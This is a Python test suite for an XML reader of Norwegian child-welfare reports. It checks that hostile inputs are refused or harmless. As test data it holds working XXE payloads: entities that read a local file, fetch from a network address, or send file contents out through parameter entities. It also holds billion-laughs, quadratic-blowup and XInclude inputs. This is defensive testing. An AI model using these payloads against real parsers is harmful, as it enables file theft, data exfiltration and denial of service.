"""Hostile XML: nothing is fetched, nothing blows up, and the file is refused or the attack is inert.

A server of our own listens while each attack is read. It must hear nothing.
"""

from __future__ import annotations

import socket
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from lesing_xml.xmlfil import AVGIVER, PLAN, Lest, fil, individ, les, melding, vist
from samlet import i_ett

HEMMELIG = "hemmelig innhold i en annen fil"


class Felle:
    """A listening socket on this machine. The kernel takes connections; nobody need answer."""

    def __init__(self) -> None:
        self._tjener = socket.create_server(("127.0.0.1", 0))
        self._tjener.setblocking(False)
        self.adresse = f"127.0.0.1:{self._tjener.getsockname()[1]}"

    def ble_beroert(self) -> bool:
        try:
            self._tjener.accept()[0].close()
        except BlockingIOError:
            return False
        return True

    def lukk(self) -> None:
        self._tjener.close()


@pytest.fixture
def felle() -> Iterator[Felle]:
    laget = Felle()
    yield laget
    laget.lukk()


@pytest.fixture
def hemmelig_fil(tmp_path: Path) -> str:
    sti = tmp_path / "hemmelig.txt"
    sti.write_text(HEMMELIG, encoding="utf-8")
    return sti.as_uri()


def test_fellen_hoerer_en_forbindelse(felle: Felle) -> None:
    vert, port = felle.adresse.split(":")
    socket.create_connection((vert, int(port))).close()
    assert felle.ble_beroert()
    assert not felle.ble_beroert()


def doctype(inni: str, kropp: str = "&x;") -> str:
    return f"<!DOCTYPE Barnevern {inni}>{fil(individ(kropp))}"


LATTER = "".join(
    f'<!ENTITY l{nr} "{f"&l{nr - 1};" * 10 if nr else "ha"}">' for nr in range(10)
)  # fmt: skip

#: Each is read with {http} and {fil} filled in. All of these must end in a Lesefeil about DOCTYPE.
MED_DOCTYPE = {
    "entitet fra fil": doctype('[<!ENTITY x SYSTEM "{fil}">]'),
    "entitet fra nett": doctype('[<!ENTITY x SYSTEM "http://{http}/x">]'),
    "entitet fra nett, offentlig": doctype('[<!ENTITY x PUBLIC "-//X//Y" "http://{http}/x">]'),
    "entitet i attributt": f'<!DOCTYPE a [<!ENTITY x "y">]>{fil(individ(Id="&x;"))}',
    "parameterentitet fra nett": doctype('[<!ENTITY % x SYSTEM "http://{http}/x"> %x;]'),
    "parameterentitet fra fil": doctype('[<!ENTITY % x SYSTEM "{fil}"> %x;]'),
    "ut gjennom parameterentiteter": doctype(
        '[<!ENTITY % f SYSTEM "{fil}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://{http}/?%f;\'>"> '
        "%e; %s;]"
    ),
    "ytre DTD fra nett": doctype('SYSTEM "http://{http}/x.dtd"', ""),
    "ytre DTD fra nett, offentlig": doctype('PUBLIC "-//X//Y" "http://{http}/x.dtd"', ""),
    "ytre DTD fra fil": doctype('SYSTEM "{fil}"', ""),
    "en milliard ganger latter": doctype(f"[{LATTER}]", "&l9;"),
    "kvadratisk oppblaasing": doctype(f'[<!ENTITY x "{"a" * 100_000}">]', "&x;" * 10_000),
    "entitet som viser til seg selv": doctype('[<!ENTITY x "&y;"><!ENTITY y "&x;">]'),
    "notasjon og entitet som ikke tolkes": doctype(
        '[<!NOTATION n SYSTEM "http://{http}/n"><!ENTITY x SYSTEM "http://{http}/x" NDATA n>]', ""
    ),
    "attributter med forvalg": doctype(f'[<!ATTLIST Plan Farge CDATA "{"r" * 1000}">]', PLAN),
    "tom DOCTYPE": doctype("", ""),
    "DOCTYPE uten slutt": "<!DOCTYPE Barnevern [" + "<!-- x -->" * 1000,
}
#: These hold nothing that can work here: either refused, or read as if the attack weren't there.
UTEN_DOCTYPE = {
    "XInclude": fil(
        individ(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{http}/x"/>'
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{fil}" parse="text"/>'
        )
    ),
    "stilark": '<?xml-stylesheet type="text/xsl" href="http://{http}/x.xsl"?>' + fil(individ()),
    "schemaLocation": fil(individ()).replace(
        "<Barnevern",
        '<Barnevern xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="urn:x http://{http}/x.xsd" '
        'xsi:noNamespaceSchemaLocation="http://{http}/y.xsd"',
        1,
    ),
    "navnerom med adresse": fil(individ()).replace(
        "<Barnevern", '<Barnevern xmlns="http://{http}/"', 1
    ),
    "xml:base": fil(individ(PLAN)).replace("<Barnevern", '<Barnevern xml:base="http://{http}/"', 1),
}


def les_angrep(mal: str, felle: Felle, hemmelig_fil: str, koding: str = "utf-8") -> tuple[str, str]:
    """The verdict, and all that came out, as text."""
    lest = les(mal.replace("{http}", felle.adresse).replace("{fil}", hemmelig_fil).encode(koding))
    assert not felle.ble_beroert()
    sagt = "".join(vist(funn, "nb") for funn in [*lest.feil, *filter(None, [lest.lesefeil])])
    assert HEMMELIG not in f"{lest.blokker}{sagt}"
    return lest.dom, sagt


@pytest.mark.parametrize("koding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("mal", MED_DOCTYPE.values(), ids=MED_DOCTYPE)
def test_doctype_blir_avvist_foer_noe_annet(
    mal: str, koding: str, felle: Felle, hemmelig_fil: str
) -> None:
    dom, sagt = les_angrep(mal, felle, hemmelig_fil, koding)
    assert dom == "lesefeil"
    assert "DOCTYPE" in sagt


@pytest.mark.parametrize("mal", UTEN_DOCTYPE.values(), ids=UTEN_DOCTYPE)
def test_henvisninger_til_nett_og_filer_blir_ikke_fulgt(
    mal: str, felle: Felle, hemmelig_fil: str
) -> None:
    assert les_angrep(mal, felle, hemmelig_fil) == ("godtatt", "")


# --- too much of something: refused, with memory that the size of the file doesn't decide

MB = 1_000_000
#: Made when they are needed: together they are some 200 MB.
STORT = {
    "attributt paa 50 MB": (
        lambda: fil(individ(Bydelsnavn="x" * 50 * MB)),
        "mer enn 1 048 576 byte",
    ),
    "starttagg paa 20 MB": (lambda: fil("<Noe" + " " * 20 * MB + "/>"), "mer enn 1 048 576 byte"),
    "kommentar paa 20 MB": (lambda: fil("<!--" + "x" * 20 * MB + "-->"), "mer enn 1 048 576 byte"),
    "instruksjon paa 20 MB": (lambda: fil("<?x " + "x" * 20 * MB + "?>"), "mer enn 1 048 576 byte"),
    "navn paa 20 MB": (lambda: "<" + "x" * 20 * MB, "mer enn 1 048 576 byte"),
    "200 000 attributter": (
        lambda: fil("<Noe" + "".join(f' a{nr}="1"' for nr in range(200_000)) + "/>"),
        "mer enn 1 048 576 byte",
    ),
    "en million inni hverandre": (
        lambda: fil("<a>" * MB + "</a>" * MB),
        "1 000 elementer inni hverandre",
    ),
    "inni hverandre i et individ": (
        lambda: fil(individ("<a>" * MB)),
        "1 000 elementer inni hverandre",
    ),
    "200 000 ulike navn": (lambda: fil(*(f"<n{n}/>" for n in range(200_000))), "10 000 ulike navn"),
    "100 000 ulike prefikser": (
        lambda: fil(*(f'<a xmlns:p{n}="u"/>' for n in range(100_000))),
        "10 000 ulike",
    ),
    "100 000 ulike navnerom": (
        lambda: fil(*(f'<a xmlns="urn:{n}"/>' for n in range(100_000))),
        "10 000 ulike",
    ),
}


def planer(antall: int) -> str:
    return "".join(f'<Plan Id="{nr}" StartDato="2026-02-01" Plantype="1"/>' for nr in range(antall))


def les_med_minne(innhold: str) -> tuple[Lest, int]:
    """What was read, and the most memory that it took, in bytes; the file itself not counted."""
    data = innhold.encode()
    tracemalloc.start()
    try:
        return les(data), tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@i_ett(("innhold", "sagt"), STORT.values(), ids=STORT)
def test_for_stort_blir_avvist_uten_mye_minne(innhold: Callable[[], str], sagt: str) -> None:
    lest, minne = les_med_minne(innhold())
    assert lest.lesefeil is not None
    assert sagt in vist(lest.lesefeil, "nb").replace("\u00a0", " ")
    assert minne < 30 * MB


@i_ett(
    "innhold",
    [
        lambda: fil("<a/>" * MB),
        lambda: fil(individ("<a/>" * 200_000 + PLAN)),
        lambda: fil("x" * 20 * MB),
        lambda: fil(individ("<a>" + "x" * 10 * MB + "</a>" + PLAN)),
        lambda: fil(individ("<![CDATA[" + "x" * 10 * MB + "]]>")),
        lambda: fil("<a>x</a>" * 200_000 + individ()),
        lambda: fil("&#65;" * 1_000_000),
    ],
    ids=[
        "ukjente",
        "ukjente i individ",
        "tekst",
        "tekst i ukjent",
        "cdata",
        "blandet",
        "tegnkoder",
    ],
)
def test_mye_av_det_som_ses_bort_fra_tar_ikke_minne(innhold: Callable[[], str]) -> None:
    lest, minne = les_med_minne(innhold())
    assert lest.dom == "godtatt"
    assert minne < 15 * MB


def test_en_presisering_paa_10_mb_er_for_lang() -> None:
    melder = f'<Melder Kode="22"><Presisering>{"x" * 10 * MB}</Presisering></Melder>'
    lest, minne = les_med_minne(fil(individ(melding(melder))))
    assert "lengre enn 1\u00a0000 tegn" in lest.sagt
    assert minne < 15 * MB


@pytest.mark.parametrize("antall", [100_100, pytest.param(MB, marks=pytest.mark.treg)])
def test_et_individ_med_for_mange_soesken_blir_avvist(antall: int) -> None:
    """The limit is 100,000 elements in one Individ. The others of the file are read."""
    mange = '<Plan Id="1" StartDato="2026-02-01" Plantype="1"/>' * antall
    lest = les(fil(individ(Id="1"), individ(mange, Id="2"), individ(Id="3")))
    assert lest.kolonne("individ", "id") == ["1", "3"]
    assert [funn.id for funn in lest.feil] == ["2"]
    assert "mer enn 100\u00a0000 elementer" in lest.sagt


@i_ett(("antall", "dom"), [(99_999, "godtatt"), (100_000, "avvist")])
def test_grensen_for_ett_individ(antall: int, dom: str) -> None:
    assert les(fil(individ(planer(antall))).encode()).dom == dom


@pytest.mark.parametrize("antall", [10_000, pytest.param(99_999, marks=pytest.mark.treg)])
def test_minnet_som_ett_individ_tar(antall: int) -> None:
    """The largest there may be takes 80 MB."""
    lest, minne = les_med_minne(fil(individ(planer(antall))))
    assert lest.dom == "godtatt"
    assert minne < 800 * antall


def test_20_000_avviste_individer_gir_20_000_funn() -> None:
    lest = les(f"<Barnevern>{AVGIVER}{'<Individ/>' * 20_000}</Barnevern>")
    assert len(lest.feil) == 20_000
    assert lest.lesefeil is None


def test_et_individ_med_mye_tekst_blir_avvist_og_det_neste_lest() -> None:
    """The limit is 16 MiB of the file for one Individ, and for what one block keeps in memory."""
    presisering = "<Presisering>" + "x" * 999 + "😀</Presisering>"
    stort = individ(melding(f'<Melder Kode="22">{presisering}</Melder>' * 17_000), Id="2")
    lest, minne = les_med_minne(fil(individ(Id="1"), stort, individ(Id="3")))
    assert lest.kolonne("individ", "id") == ["1", "3"]
    assert "mer enn 16\u00a0777\u00a0216 byte" in lest.sagt
    assert minne < 120 * MB


def test_ugyldige_verdier_holdes_ikke_i_minnet() -> None:
    planer = f'<Plan Id="{"x" * 900_000}" StartDato="2026-02-01" Plantype="1"/>' * 15
    lest, minne = les_med_minne(fil(individ(planer)))
    assert "lengre enn 30 tegn" in lest.sagt
    assert minne < 10 * MB


def test_en_blokk_holder_ikke_mer_enn_noen_mb_av_filen() -> None:
    melder = '<Melder Kode="22"><Presisering>' + "x" * 1000 + "</Presisering></Melder>"
    lest = les(fil(*(individ(melding(melder * 5000), Id=str(nr)) for nr in range(8))))
    assert [blokk["individ"].antall for blokk in lest.blokker] == [4, 4]
